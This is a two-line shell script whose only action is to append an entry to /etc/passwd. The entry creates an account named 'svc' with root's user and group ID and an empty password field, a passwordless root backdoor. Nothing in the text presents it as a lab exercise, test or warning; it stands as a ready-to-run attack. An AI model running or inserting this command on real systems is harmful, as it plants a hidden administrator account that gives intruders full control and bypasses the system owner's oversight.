#!/bin/sh
echo 'svc::0:0::/root:/bin/bash' >> /etc/passwd
